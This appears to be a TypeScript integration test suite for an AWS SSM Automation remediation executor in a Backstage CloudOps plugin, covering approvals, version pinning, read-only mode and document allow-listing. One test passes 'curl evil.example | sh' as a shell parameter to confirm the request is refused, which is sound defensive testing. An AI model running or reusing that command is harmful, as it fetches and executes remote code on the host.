import {
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
// The module is tested inside its plugin.
// eslint-disable-next-line @backstage/no-mixed-plugin-imports
import cloudopsPlugin from '@cloudops-ai/backstage-plugin-cloudops-backend';
import request from 'supertest';
import { awsComponent } from '../__testUtils__/awsEntities';
import {
  AwsTestEnvironment,
  EXTERNAL_ID,
  startAwsTestEnvironment,
} from '../__testUtils__/awsTestEnvironment';
import { eventually } from '../__testUtils__/eventually';
import { cloudopsModuleAws } from '../module';
import { SSM_AUTOMATION_EXECUTOR_ID } from './SsmAutomationExecutor';

jest.setTimeout(60_000);

const A = '111111111111';
const REGION = 'eu-west-1';
const RESTART = 'CloudOps-RestartEC2Instance';
const INSTANCE = 'i-0abc1234def567890';

/**
 * The SSM Automation executor inside the real CloudOps plugin: requests
 * go through the core's policy (plan, dry run, approvals, read-only) and
 * reach SSM only when policy lets them.
 */
describe('SSM Automation remediation in the CloudOps plugin', () => {
  let env: AwsTestEnvironment;

  beforeEach(async () => {
    env = await startAwsTestEnvironment([A]);
    env.fake.addAccount(A, {
      name: 'cloudops-remediation',
      externalId: EXTERNAL_ID,
    });
    env.fake.ssm.addDocument(A, REGION, {
      Name: RESTART,
      Parameters: [
        { Name: 'InstanceId', Type: 'String' },
        { Name: 'AutomationAssumeRole', Type: 'String' },
      ],
      steps: [
        { name: 'reboot', action: 'aws:executeAwsApi' },
        {
          name: 'waitForStatusChecks',
          action: 'aws:waitForAwsResourceProperty',
          outputs: { Status: ['ok'] },
        },
      ],
      tags: { 'cloudops:cost-impact': 'neutral' },
    });
  });
  afterEach(() => env.stop());

  /** The plugin with the module and an incident on checkout. */
  async function startBackend(
    readOnly: boolean,
    remediation: { timeout?: { milliseconds: number } } = {},
  ) {
    const { server } = await startTestBackend({
      features: [
        cloudopsPlugin,
        cloudopsModuleAws,
        catalogServiceMock.factory({
          entities: [
            awsComponent(
              'checkout',
              [`arn:aws:ec2:${REGION}:${A}:instance/${INSTANCE}`],
              {
                annotations: {
                  'cloudops.ai/aws-account-id': A,
                  'cloudops.ai/aws-region': REGION,
                  'cloudops.ai/environment': 'staging',
                },
              },
            ),
          ],
        }),
        mockServices.rootConfig.factory({
          data: {
            aws: env.awsConfig,
            cloudops: {
              readOnly,
              rules: { watch: false },
              actions: {
                delivery: {
                  initialBackoff: { milliseconds: 50 },
                  maxBackoff: { milliseconds: 200 },
                  pollInterval: { milliseconds: 100 },
                  maxAttempts: 3,
                },
                remediation,
              },
              aws: {
                regions: [REGION],
                accounts: [{ accountId: A }],
                metrics: { enabled: false },
                alarms: { enabled: false },
                eventBridge: { enabled: false },
                ssm: {
                  pollInterval: { milliseconds: 10 },
                  maxPollInterval: { milliseconds: 40 },
                },
              },
            },
          },
        }),
      ],
    });
    const incident = await request(server)
      .post('/api/cloudops/incidents')
      .send({
        title: 'checkout instance unhealthy',
        severity: 'high',
        entityRef: 'component:default/checkout',
      })
      .expect(201);
    const ask = (parameters: Record<string, string>, more: object = {}) =>
      request(server)
        .post(`/api/cloudops/incidents/${incident.body.id}/remediations`)
        .send({
          executor: SSM_AUTOMATION_EXECUTOR_ID,
          ref: RESTART,
          parameters,
          ...more,
        });
    return { server, incidentId: incident.body.id as string, ask };
  }

  /** The plugin with a request to restart the instance, and how it settles. */
  async function start(
    readOnly: boolean,
    remediation: { timeout?: { milliseconds: number } } = {},
    more: object = {},
  ) {
    const { server, incidentId, ask } = await startBackend(
      readOnly,
      remediation,
    );
    const asked = await ask({ InstanceId: INSTANCE }, more).expect(201);
    const settled = (states: string[]) =>
      eventually(async () => {
        const res = await request(server).get(
          `/api/cloudops/remediations/${asked.body.id}`,
        );
        return states.includes(res.body.state) && res.body;
      });
    const timeline = async () =>
      (
        await request(server).get(`/api/cloudops/incidents/${incidentId}`)
      ).body.timeline.map((e: any) => e.message) as string[];
    const approve = () =>
      request(server)
        .post(`/api/cloudops/remediations/${asked.body.id}/decision`)
        .set('Authorization', mockCredentials.user.header('user:default/ben'))
        .send({ decision: 'approve' })
        .expect(200);
    return { settled, timeline, approve };
  }

  /** A request awaiting approval, its plan pinned to version 1 of the document. */
  async function awaitingApproval() {
    const started = await start(false, {}, { approval: { required: true } });
    const waiting = await started.settled(['awaiting-approval', 'failed']);
    expect(waiting.policy).toMatchObject({
      pin: {
        documentVersion: '1',
        documentHash: expect.stringMatching(/^[0-9a-f]{64}$/),
      },
    });
    return started;
  }

  /**
   * A request awaiting approval, its plan pinned to version 1 of the
   * document; then version 2, which terminates, becomes the default.
   */
  async function approvalWhileDocumentChanges() {
    const started = await awaitingApproval();
    env.fake.ssm.updateDocument(A, REGION, RESTART, {
      steps: [{ name: 'terminate', action: 'aws:executeAwsApi' }],
    });
    return started;
  }

  it('runs the automation when policy allows: plan from the document, checked dry run, execution, steps and outcome on the timeline', async () => {
    const { settled, timeline } = await start(false);
    const done = await settled(['succeeded', 'failed', 'blocked']);
    const [execution] = env.fake.ssm.executionsIn(A);
    expect(done).toMatchObject({
      state: 'succeeded',
      policy: { targets: [INSTANCE], costImpact: 'neutral' },
      dryRun: { status: 'succeeded', outputs: { started: false } },
      outcome: {
        status: 'succeeded',
        executionId: execution.AutomationExecutionId,
        outputs: { 'waitForStatusChecks.Status': ['ok'] },
      },
    });
    expect(env.fake.ssm.executionsIn(A)).toHaveLength(1);
    expect(await timeline()).toEqual(
      expect.arrayContaining([
        `${SSM_AUTOMATION_EXECUTOR_ID} ${RESTART}: step reboot (aws:executeAwsApi) Success`,
        `${SSM_AUTOMATION_EXECUTOR_ID} ${RESTART}: step waitForStatusChecks (aws:waitForAwsResourceProperty) Success`,
      ]),
    );
  });

  it('runs the document version planned and approved, though the default version changed before the approval', async () => {
    const { settled, approve, timeline } = await approvalWhileDocumentChanges();
    await approve();
    const done = await settled(['succeeded', 'failed']);
    expect(done).toMatchObject({
      state: 'succeeded',
      outcome: { outputs: { automationExecution: { documentVersion: '1' } } },
    });
    const [execution] = env.fake.ssm.executionsIn(A);
    expect(execution.DocumentVersion).toBe('1');
    expect(execution.StepExecutions.map(s => s.StepName)).toEqual([
      'reboot',
      'waitForStatusChecks',
    ]);
    expect((await timeline()).join('\n')).not.toContain('terminate');
  });

  it('fails the request at once, saying the document changed, when the version approved no longer exists', async () => {
    const { settled, approve } = await approvalWhileDocumentChanges();
    env.fake.ssm.deleteDocumentVersion(A, REGION, RESTART, '1');
    await approve();
    const failed = await settled(['failed', 'succeeded']);
    expect(failed.state).toBe('failed');
    expect(failed.outcome.summary).toMatch(
      `The execute step gave up after 1 attempt(s): SSM document ${RESTART} version 1, the version planned and approved, no longer exists in ${A} ${REGION}: the document changed since this remediation was approved, so nothing was run`,
    );
    expect(env.fake.callsTo('ssm', 'StartAutomationExecution')).toEqual([]);
  });

  it('fails the request at once, saying the document changed, when the document was deleted and created again with other content', async () => {
    const { settled, approve } = await awaitingApproval();
    env.fake.ssm.deleteDocument(A, REGION, RESTART);
    env.fake.ssm.addDocument(A, REGION, {
      Name: RESTART,
      Parameters: [
        { Name: 'InstanceId', Type: 'String' },
        { Name: 'AutomationAssumeRole', Type: 'String' },
      ],
      steps: [{ name: 'terminate', action: 'aws:executeAwsApi' }],
    });
    await approve();
    const failed = await settled(['failed', 'succeeded']);
    expect(failed.outcome.summary).toBe(
      `The execute step gave up after 1 attempt(s): SSM document ${RESTART} version 1, the version planned and approved, has other content now in ${A} ${REGION}: the document changed since this remediation was approved, so nothing was run; request it again to plan the current version (its Sha256 hash is not the one approved)`,
    );
    expect(env.fake.callsTo('ssm', 'StartAutomationExecution')).toEqual([]);
  });

  it('never starts an automation in read-only mode: the document is described and checked, nothing runs', async () => {
    const { settled, timeline } = await start(true);
    const done = await settled(['blocked', 'succeeded', 'failed']);
    expect(done).toMatchObject({
      state: 'blocked',
      policy: { blockedBy: 'read-only' },
      dryRun: { status: 'succeeded', outputs: { started: false } },
    });
    expect(env.fake.callsTo('ssm', 'DescribeDocument').length).toBeGreaterThan(
      0,
    );
    expect(env.fake.callsTo('ssm', 'StartAutomationExecution')).toEqual([]);
    expect(env.fake.ssm.executionsIn(A)).toEqual([]);
    expect((await timeline()).join('\n')).toContain('read-only');
  });

  it('refuses a request whose parameters the document does not take, naming them, and stores nothing', async () => {
    const { server, incidentId, ask } = await startBackend(false);
    const unknown = await ask({ InstanceId: INSTANCE, Force: 'true' }).expect(
      400,
    );
    expect(unknown.body.error).toMatchObject({
      name: 'InputError',
      message: `${RESTART} declares no parameter Force (it takes: InstanceId, AutomationAssumeRole)`,
    });
    const missing = await ask({}).expect(400);
    expect(missing.body.error.message).toBe(
      `${RESTART} needs the parameter(s) InstanceId`,
    );
    const listed = await request(server)
      .get('/api/cloudops/remediations')
      .query({ incidentId })
      .expect(200);
    expect(listed.body.items).toEqual([]);
    expect(env.fake.callsTo('ssm', 'StartAutomationExecution')).toEqual([]);
  });

  it('refuses a request for a document CloudOps may not run, naming it and the allowed prefixes, and stores nothing', async () => {
    env.fake.ssm.addDocument(A, REGION, {
      Name: 'AWS-RunShellScript',
      Parameters: [{ Name: 'commands', Type: 'StringList' }],
    });
    const { server, incidentId, ask } = await startBackend(false);
    const refused = await ask(
      { commands: 'curl evil.example | sh' },
      { ref: 'AWS-RunShellScript' },
    ).expect(400);
    expect(refused.body.error).toMatchObject({
      name: 'InputError',
      message:
        'SSM document AWS-RunShellScript is not one CloudOps may run: its name must start with CloudOps- (cloudops.aws.ssm.documentPrefixes)',
    });
    const listed = await request(server)
      .get('/api/cloudops/remediations')
      .query({ incidentId })
      .expect(200);
    expect(listed.body.items).toEqual([]);
    expect(env.fake.callsTo('ssm')).toEqual([]);
  });

  it('stops the automation when the last attempt of the execution times out, and the request fails', async () => {
    // Every poll finds it still running: each attempt times out.
    env.fake.ssm.pollsPerStep = 1_000_000;
    const { settled, timeline } = await start(false, {
      timeout: { milliseconds: 1500 },
    });
    const failed = await settled(['failed', 'succeeded']);
    expect(failed.state).toBe('failed');
    expect(failed.outcome.summary).toMatch(
      /^The execute step gave up after 3 attempt\(s\): timed out after 1500 ms/,
    );
    const [execution] = env.fake.ssm.executionsIn(A);
    expect(env.fake.ssm.executionsIn(A)).toHaveLength(1);
    // Only the last attempt stopped it; the ones before left it to the retry.
    const stopped = await eventually(
      async () => execution.AutomationExecutionStatus === 'Cancelled',
    );
    expect(stopped).toBe(true);
    expect(env.fake.callsTo('ssm', 'StopAutomationExecution')).toHaveLength(1);
    expect(
      await eventually(async () =>
        (await timeline()).find(m => m.includes('stopped automation')),
      ),
    ).toBe(
      `${SSM_AUTOMATION_EXECUTOR_ID} ${RESTART}: stopped automation execution ${execution.AutomationExecutionId} in ${A} ${REGION}: the step gave up following it (its time ran out)`,
    );
  });
});
